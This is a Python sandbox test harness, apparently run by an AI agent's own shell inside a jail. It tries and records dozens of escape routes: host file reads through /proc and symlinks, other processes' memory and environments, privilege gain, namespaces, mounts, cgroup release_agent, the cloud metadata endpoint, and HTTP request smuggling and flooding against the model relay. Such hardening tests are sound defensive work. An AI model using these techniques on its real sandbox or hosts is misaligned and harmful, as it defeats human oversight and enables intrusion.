"""Run inside a jail, by the agent's own Bash: everything that could bring something out, or change what is outside.

It knows more than an agent ever would: where the marker lies, which ports listen, what the gateway's process is. Each
attempt returns what it got, and raises (or returns nothing) where it was held. A table goes to standard output and to
`report.json` in the project. Standard library alone; `python3 attempts.py targets.json`.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import platform
import resource
import socket
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

TARGETS: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8"))
SECRETS: list[str] = TARGETS["secrets"]
# The only text that leads to the marker is made here, so that this file does not count as a find of its own.
ATTEMPTS: dict[str, Callable[[], object]] = {}
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
QUICK_S = 0.5


def attempt(act: Callable[[], object]) -> Callable[[], object]:
    ATTEMPTS[act.__name__] = act
    return act


def call(number: int, *arguments: Any) -> int:
    """Make a system call by its number; raises what it answers."""
    done = int(LIBC.syscall(number, *arguments))
    if done < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return done


def text(path: str | Path) -> str:
    return Path(path).read_bytes()[:1_000_000].decode(errors="replace")


def secret_in(found: str) -> str | None:
    """The secrets themselves are not in here: only what they begin with, and where they are."""
    return next((f"{known}…" for known in SECRETS if known in found), None)


def opens_for_writing(*paths: str) -> list[str]:
    """Opened, and nothing written: the machine is not to pay for a jail that leaks."""
    opened = []
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        opened.append(path)
    return opened


def pids() -> Iterator[str]:
    return (name for name in os.listdir("/proc") if name.isdigit())


# Files of the host


@attempt
def read_the_marker_by_its_path() -> object:
    return text(TARGETS["marker"])


@attempt
def read_the_marker_through_another_process_root() -> object:
    return [p for p in pids() if secret_in(_quietly(partial(text, f"/proc/{p}/root{TARGETS['marker']}")))]


@attempt
def read_the_marker_through_another_process_directory() -> object:
    up = "../" * 20
    return [p for p in pids() if secret_in(_quietly(partial(text, f"/proc/{p}/cwd/{up}{TARGETS['marker'][1:]}")))]


@attempt
def climb_out_of_the_project() -> object:
    return text("/project/" + "../" * 20 + TARGETS["marker"][1:])


@attempt
def climb_out_by_descriptors() -> object:
    directory = os.open("/project", os.O_RDONLY)
    for _ in range(20):
        directory = os.open("..", os.O_RDONLY, dir_fd=directory)
    return os.read(os.open(TARGETS["marker"][1:], os.O_RDONLY, dir_fd=directory), 100)


@attempt
def link_out_of_the_project() -> object:
    Path("/project/to-marker").symlink_to(TARGETS["marker"])
    return text("/project/to-marker")


@attempt
def hard_link_the_program_into_the_project() -> object:
    os.link("/run/gateway/claude", "/project/hard-link")
    return "linked"


@attempt
def find_the_marker_anywhere() -> object:
    name = Path(TARGETS["marker"]).name
    walks = (
        os.walk(top) for top in sorted(os.listdir("/")) if top not in {"proc", "sys", "usr"} for top in [f"/{top}"]
    )
    return [place for walk in walks for place, _, files in walk if name in files and not place.startswith("/project")]


@attempt
def read_the_host_s_shadow_and_homes() -> object:
    return [p for p in ("/etc/shadow", "/root", "/etc/machine-id", "/var/lib/dpkg/status") if os.path.exists(p)]


@attempt
def read_the_gateway_s_data() -> object:
    return [path for path in TARGETS["host_paths"] if os.path.exists(path)]


@attempt
def open_descriptors_that_were_left_open() -> object:
    places = [f"/proc/{p}/fd/{fd}" for p in pids() for fd in _list(f"/proc/{p}/fd")]
    found = [_quietly(partial(os.readlink, place)) for place in places]
    return [path for path in found if any(path.startswith(host) for host in TARGETS["host_paths"])]


@attempt
def open_by_handle() -> object:
    handle = (ctypes.c_char * 128)()
    ctypes.memmove(
        handle, (8).to_bytes(4, sys.byteorder) + (1).to_bytes(4, sys.byteorder) + (2).to_bytes(8, "little"), 16
    )
    return call(304 if X86 else 265, os.open("/project", os.O_RDONLY), handle, os.O_RDONLY)


@attempt
def name_a_handle() -> object:
    handle = (ctypes.c_char * 136)()
    ctypes.memmove(handle, (128).to_bytes(4, sys.byteorder), 4)
    return call(303 if X86 else 264, -100, b"/project", handle, ctypes.byref(ctypes.c_int()), 0)


# Other processes, environments, keys


@attempt
def read_every_environment() -> object:
    return [p for p in pids() if secret_in(_quietly(partial(text, f"/proc/{p}/environ")))]


@attempt
def read_every_command_line() -> object:
    return [p for p in pids() if secret_in(_quietly(partial(text, f"/proc/{p}/cmdline")))]


@attempt
def read_the_memory_of_every_process() -> object:
    found = []
    for pid in pids():
        if pid == str(os.getpid()):
            continue
        for line in _quietly(partial(text, f"/proc/{pid}/maps")).splitlines():
            start, _, end = line.split(" ")[0].partition("-")
            if " rw" not in line or int(end, 16) - int(start, 16) > 64 * 1024 * 1024:
                continue
            with _memory(pid) as memory:
                memory.seek(int(start, 16))
                held = memory.read(int(end, 16) - int(start, 16))
            if any(known.encode() in held for known in TARGETS["keys"]):
                found.append(pid)
    return found


@attempt
def see_processes_of_the_host() -> object:
    return [p for p in pids() if Path(f"/proc/{p}/comm").read_text().strip() in {"systemd", "init", "pytest", "sshd"}]


@attempt
def signal_the_gateway() -> object:
    os.kill(TARGETS["gateway_pid"], 0)
    return "it is there"


@attempt
def trace_the_first_process() -> object:
    return "traced" if call(101 if X86 else 117, 16, 1, 0, 0) == 0 else None


@attempt
def read_the_memory_of_the_first_process() -> object:
    buffer = ctypes.create_string_buffer(8)

    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    here, there = Part(ctypes.addressof(buffer), 8), Part(0x400000, 8)
    return call(310 if X86 else 270, 1, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


@attempt
def take_a_descriptor_of_the_first_process() -> object:
    return call(438, os.pidfd_open(1), 0, 0)


@attempt
def read_the_kernel_s_key_rings() -> object:
    return call(250 if X86 else 219, 11, ctypes.c_int(-3), ctypes.create_string_buffer(256), 256, 0)


@attempt
def add_a_key() -> object:
    return call(248 if X86 else 217, b"user", b"planted", b"x", 1, ctypes.c_int(-4))


@attempt
def list_keys() -> object:
    return text("/proc/keys") or None


@attempt
def see_shared_memory_of_others() -> object:
    lines = text("/proc/sysvipc/shm").splitlines()[1:]
    return (
        [line for line in lines if str(TARGETS["shared_memory"]) in line.split()] if TARGETS["shared_memory"] else lines
    )


# Who one is


@attempt
def become_root() -> object:
    os.setuid(0)
    return os.getuid()


@attempt
def become_root_by_a_program() -> object:
    marked = [p for p in glob.glob("/usr/bin/*") if os.stat(p).st_mode & stat.S_ISUID]
    done = [
        subprocess.run([p, "-c", "id -u"], capture_output=True, check=False, timeout=5)
        for p in marked
        if p.endswith("/su")
    ]
    return [one.stdout for one in done if one.stdout.strip() == b"0"]


@attempt
def have_a_capability() -> object:
    lines = dict(line.split(":\t") for line in text("/proc/self/status").splitlines() if ":\t" in line)
    return [name for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(lines[name], 16)]


@attempt
def gain_privileges_by_programs() -> object:
    return None if "NoNewPrivs:\t1" in text("/proc/self/status") else "may"


@attempt
def make_a_user_namespace() -> object:
    return call(272 if X86 else 97, 0x10000000) == 0


@attempt
def make_a_user_namespace_with_a_child() -> object:
    done = subprocess.run(["unshare", "-Ur", "id", "-u"], capture_output=True, check=True, timeout=5)
    return done.stdout


@attempt
def clone_into_a_user_namespace() -> object:
    pid = call(56 if X86 else 220, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)


@attempt
def enter_other_namespaces() -> object:
    kinds = ("mnt", "net", "pid", "user", "ipc", "uts", "cgroup")
    return [k for k in kinds if _worked(partial(_enter, k))]


# Mounts, devices, the kernel


@attempt
def mount_something() -> object:
    return call(165 if X86 else 40, b"none", b"/tmp", b"tmpfs", 0, 0) == 0


@attempt
def mount_the_kernel_s_own_files_anew() -> object:
    Path("/tmp/proc").mkdir()
    return call(165 if X86 else 40, b"proc", b"/tmp/proc", b"proc", 0, 0) == 0


@attempt
def mount_it_the_new_way() -> object:
    return call(430, b"tmpfs", 0)


@attempt
def make_the_programs_writable() -> object:
    return call(165 if X86 else 40, b"none", b"/usr", None, 32 | 4096, 0) == 0


@attempt
def uncover_the_kernel_s_settings() -> object:
    return call(166 if X86 else 39, b"/proc/sys", 2) == 0


@attempt
def change_the_root() -> object:
    os.chroot("/project")
    return "changed"


@attempt
def pivot_the_root() -> object:
    return call(155 if X86 else 41, b"/project", b"/project") == 0


@attempt
def make_a_device() -> object:
    os.mknod("/project/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    return text("/project/disk")


@attempt
def open_devices() -> object:
    # What cannot be reached through: nothing, zeros, chance, the own terminals.
    harmless = {
        "null",
        "zero",
        "full",
        "random",
        "urandom",
        "tty",
        "ptmx",
        "pts",
        "fd",
        "stdin",
        "stdout",
        "stderr",
        "core",
    }
    return sorted(set(os.listdir("/dev")) - harmless - {"shm", "console"})


@attempt
def change_the_kernel_s_settings() -> object:
    every = (os.path.join(place, name) for place, _, names in os.walk("/proc/sys") for name in names)
    return opens_for_writing(*every)


@attempt
def change_anything_else_of_the_kernel_s() -> object:
    found = (
        f"/proc/{name}" for name in os.listdir("/proc") if not name.isdigit() and not os.path.islink(f"/proc/{name}")
    )
    files = [path for path in found if os.path.isfile(path)]
    inside = [
        p
        for top in ("irq", "bus", "fs", "acpi", "pressure", "scsi", "driver")
        for p in glob.glob(f"/proc/{top}/**", recursive=True)
        if os.path.isfile(p)
    ]
    return opens_for_writing(*files, *inside)


@attempt
def read_the_kernel_s_memory() -> object:
    return [
        p
        for p in ("/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/dev/mem", "/dev/kmsg")
        if _quietly(partial(_first, p))
    ]


@attempt
def reach_the_system_tree() -> object:
    return os.listdir("/sys")


@attempt
def escape_by_control_groups() -> object:
    found = glob.glob("/sys/fs/cgroup/*") + glob.glob("/**/release_agent", recursive=False)
    return found or (call(165 if X86 else 40, b"cgroup", b"/tmp", b"cgroup", 0, b"memory") == 0)


@attempt
def load_a_program_into_the_kernel() -> object:
    return call(321 if X86 else 280, 0, ctypes.create_string_buffer(128), 128)


@attempt
def watch_with_performance_counters() -> object:
    return call(298 if X86 else 241, ctypes.create_string_buffer(128), 0, -1, -1, 0)


@attempt
def use_faults_of_memory() -> object:
    return call(323 if X86 else 282, 1)


@attempt
def use_rings_of_requests() -> object:
    return call(425, 1, ctypes.create_string_buffer(128))


@attempt
def load_a_module() -> object:
    return _refused_only(1, 313 if X86 else 273, -1, b"", 0)


@attempt
def restart_the_machine() -> object:
    # With numbers that mean nothing: refused for them, it would have been possible.
    return _refused_only(1, 169 if X86 else 142, 0, 0, 0, 0)


@attempt
def set_the_clock() -> object:
    return _refused_only(1, 227 if X86 else 112, 99, 0)


@attempt
def rename_the_machine() -> object:
    return call(170 if X86 else 161, b"planted", 7) == 0


@attempt
def type_into_a_terminal() -> object:
    fcntl.ioctl(0, 0x5412, b"x")
    return "typed"


@attempt
def speak_the_calls_of_another_machine() -> object:
    # The filter knows numbers of one kind; the same kernel answers to others.
    return call(0x40000000 | 165, 0, 0, 0, 0, 0) if X86 else None


# What is run later, outside


@attempt
def change_the_program() -> object:
    return opens_for_writing("/run/gateway/claude")


@attempt
def replace_the_program() -> object:
    os.rename("/run/gateway/claude", "/run/gateway/other")
    return "replaced"


@attempt
def mark_the_program() -> object:
    os.chmod("/run/gateway/claude", 0o777)
    return "marked"


@attempt
def leave_a_program_beside_others() -> object:
    Path("/usr/bin/planted").write_text("x")
    return "left"


@attempt
def preload_a_library() -> object:
    Path("/etc/ld.so.preload").write_text("x")
    return "left"


@attempt
def change_users() -> object:
    return opens_for_writing("/etc/passwd", "/etc/group", "/etc/hosts", "/etc/nsswitch.conf")


@attempt
def replace_the_way_to_the_model() -> object:
    os.unlink("/run/gateway/model.sock")
    return "removed"


@attempt
def leave_something_in_the_gateway_s_directory() -> object:
    Path("/run/gateway/planted").write_text("x")
    return "left"


@attempt
def dump_core() -> object:
    return resource.getrlimit(resource.RLIMIT_CORE)[1] or None


# The network


@attempt
def connect_to_loopback() -> object:
    return _tcp("127.0.0.1", TARGETS["tcp_port"])


@attempt
def connect_to_loopback_of_version_six() -> object:
    return _tcp("::1", TARGETS["tcp_port"])


@attempt
def connect_to_the_host_s_addresses() -> object:
    return [address for address in TARGETS["addresses"] if _worked(partial(_tcp, address, TARGETS["tcp_port"]))]


@attempt
def connect_to_the_model_s_api() -> object:
    return _tcp("127.0.0.1", TARGETS["upstream_port"])


@attempt
def send_a_datagram() -> object:
    sent = []
    for address in ("127.0.0.1", *TARGETS["addresses"]):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            # To the jail's own loopback anything can be sent; whether it came out is seen from outside.
            if _worked(partial(sender.sendto, b"planted", (address, TARGETS["udp_port"]))) and address != "127.0.0.1":
                sent.append(address)
    return sent


@attempt
def ask_for_a_name() -> object:
    return socket.getaddrinfo("example.com", 443)


@attempt
def ask_name_servers() -> object:
    return [a for a in ("1.1.1.1", "8.8.8.8", "169.254.169.254") if _worked(partial(_udp, a, 53))]


@attempt
def reach_the_cloud_s_metadata() -> object:
    return _tcp("169.254.169.254", 80)


@attempt
def use_raw_sockets() -> object:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt
def use_packet_sockets() -> object:
    return socket.socket(17, socket.SOCK_RAW, 3)


@attempt
def reach_the_hypervisor() -> object:
    return socket.socket(40, socket.SOCK_STREAM)


@attempt
def use_other_families() -> object:
    return [family for family in range(3, 46) if family not in {10, 16} and _worked(partial(_socket_of, family))]


@attempt
def find_other_interfaces() -> object:
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@attempt
def make_an_interface() -> object:
    done = subprocess.run(["ip", "link", "add", "planted", "type", "dummy"], capture_output=True, check=True, timeout=5)
    return done.returncode == 0


@attempt
def connect_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + TARGETS["abstract"])
        client.send(b"planted")
    return "connected"


@attempt
def connect_to_sockets_in_files() -> object:
    usual = ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"]
    return [
        path for path in [*usual, *TARGETS["sockets"]] if _worked(partial(socket.socket(socket.AF_UNIX).connect, path))
    ]


@attempt
def find_other_sockets() -> object:
    tops = [f"/{name}" for name in os.listdir("/") if name not in {"proc", "sys", "usr", "tmp"}]
    found = [os.path.join(place, name) for top in tops for place, _, names in os.walk(top) for name in names]
    return [path for path in found if _is_socket(path) and path != "/run/gateway/model.sock"]


# The way to the model


@attempt
def ask_the_relay_for_another_path() -> object:
    paths = (
        "/",
        "/v1/models",
        "/v1/files",
        "/v1/messages/batches",
        "/v1/messages/../files",
        "/v1/organizations",
        "//v1/messages",
    )
    return [path for path in paths if b" 404 " not in _relayed(b"POST", path.encode()).partition(b"\r\n")[0]]


@attempt
def ask_the_relay_by_another_method() -> object:
    return [
        m
        for m in (b"GET", b"PUT", b"DELETE", b"PATCH", b"OPTIONS")
        if b" 404 " not in _relayed(m, b"/v1/messages").partition(b"\r\n")[0]
    ]


@attempt
def ask_the_relay_for_another_host() -> object:
    port = TARGETS["tcp_port"]
    answers = (
        _relayed(b"POST", b"http://127.0.0.1:%d/v1/messages" % port),
        _relayed(b"CONNECT", b"127.0.0.1:%d" % port),
    )
    return [answer[:60] for answer in answers if answer and b" 404 " not in answer.partition(b"\r\n")[0]]


@attempt
def ask_the_relay_for_another_model() -> object:
    answer = _relayed(
        b"POST", b"/v1/messages", body=json.dumps({**TARGETS["body"], "model": "claude-forbidden-1"}).encode()
    )
    return answer[:80] if b" 200 " in answer.partition(b"\r\n")[0] else None


@attempt
def have_the_models_api_reach_out() -> object:
    """It would fetch, search, run programs and connect to servers, if it were asked to."""
    elsewhere = "https://example.invalid/?said=" + TARGETS["marker"]
    picture = {"type": "image", "source": {"type": "url", "url": elsewhere}}
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": [picture]}
    file = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}
    asked = (
        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
        {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
        {"mcp_servers": [{"type": "url", "url": elsewhere, "name": "elsewhere"}]},
        {"container": "container_1"},
        {"messages": [{"role": "user", "content": [picture]}]},
        {"messages": [{"role": "user", "content": [result]}]},
        {"messages": [{"role": "user", "content": [file]}]},
    )
    bodies = [json.dumps({**TARGETS["body"], **field}).encode() for field in asked]
    # The API may take the first of two fields of one name, where others take the last: that is looked at from outside.
    said_twice = b'{"tools": [{"type": "web_fetch_20250910"}], "tools": [], ' + json.dumps(TARGETS["body"]).encode()[1:]
    _relayed(b"POST", b"/v1/messages", body=said_twice)
    return [
        body[-80:]
        for path in (b"/v1/messages", b"/v1/messages/count_tokens")
        for body in bodies
        if b" 403 " not in _relayed(b"POST", path, body=body).partition(b"\r\n")[0]
    ]


@attempt
def hear_the_key_from_the_relay() -> object:
    # The one request that is served: its answer, and what it was asked with, are looked at from outside as well.
    answer = _relayed(
        b"POST",
        b"/v1/messages",
        b"x-api-key: planted\r\nauthorization: Bearer planted\r\ncookie: planted\r\n",
        json.dumps(TARGETS["body"]).encode(),
    )
    return secret_in(answer.decode(errors="replace"))


@attempt
def smuggle_a_request_through_the_relay() -> object:
    inner = b"POST /v1/files HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n"
    head = b"POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n"
    answer = _spoken(head % len(inner) + inner)
    return answer[:80] if answer.count(b"HTTP/1.1 200") else None


@attempt
def drown_the_relay() -> object:
    answer = _relayed(b"POST", b"/v1/messages", b"x-long: " + b"x" * (4 * 1024 * 1024) + b"\r\n")
    return answer[:80] if b" 200 " in answer.partition(b"\r\n")[0] else None


@attempt
def crowd_the_relay() -> object:
    held = [socket.socket(socket.AF_UNIX) for _ in range(64)]
    open_ = []
    for one in held:
        one.settimeout(QUICK_S)
        if _worked(partial(one.connect, "/run/gateway/model.sock")) and _worked(partial(one.send, b"POST ")):
            open_.append(one)
    left = sum(1 for one in open_ if not _hung_up(one))
    for one in held:
        one.close()
    return f"{left} connections" if left > TARGETS["connections"] else None


# How it is done


def _hung_up(one: socket.socket) -> bool:
    try:
        return one.recv(1) == b""
    except TimeoutError:
        return False
    except OSError:
        return True


def _relayed(method: bytes, target: bytes, headers: bytes = b"", body: bytes = b"{}") -> bytes:
    fixed = b"host: model.invalid\r\nconnection: close\r\ncontent-type: application/json\r\n"
    head = b"%b %b HTTP/1.1\r\n" + fixed + b"%bcontent-length: %d\r\n\r\n"
    return _spoken(head % (method, target, headers, len(body)) + body)


def _spoken(raw: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(3)
        client.connect("/run/gateway/model.sock")
        try:
            client.sendall(raw)
            answer = b""
            while piece := client.recv(65536):
                answer += piece
        except OSError:
            return b""
        return answer


def _enter(kind: str) -> int:
    return call(308 if X86 else 268, os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)


def _socket_of(family: int) -> None:
    socket.socket(family, socket.SOCK_DGRAM).close()


def _tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=QUICK_S) as client:
        client.send(b"planted")
    return "connected"


def _udp(host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(QUICK_S)
        client.sendto(b"\0" * 12, (host, port))
    return "sent"


def _refused_only(code: int, number: int, *arguments: Any) -> object:
    """Held if it was refused for what it is; any other answer means that it was looked into."""
    try:
        done = call(number, *arguments)
    except OSError as error:
        return None if error.errno == code else f"answered {error}"
    return done


def _quietly(act: Callable[[], str]) -> str:
    try:
        return act()
    except OSError:
        return ""


def _worked(act: Callable[[], object]) -> bool:
    try:
        act()
    except OSError:
        return False
    return True


def _list(place: str) -> list[str]:
    try:
        return os.listdir(place)
    except OSError:
        return []


def _first(path: str) -> str:
    with open(path, "rb") as file:
        return file.read(16).hex()


def _memory(pid: str) -> Any:
    return open(f"/proc/{pid}/mem", "rb")


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False


def tried(act: Callable[[], object]) -> tuple[bool, str]:
    try:
        got = act()
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        return True, f"{type(error).__name__}: {error}"[:100]
    return not got, "nothing was there" if not got else repr(got)[:200]


def main() -> None:
    rows = [(name, *tried(act)) for name, act in ATTEMPTS.items()]
    for name, held, why in rows:
        print(f"{'held' if held else 'OUT ':4}  {name.replace('_', ' '):55}  {why}")
    report = [{"attempt": name, "held": held, "why": why} for name, held, why in rows]
    Path("/project/report.json").write_text(json.dumps(report), encoding="utf-8")


main()
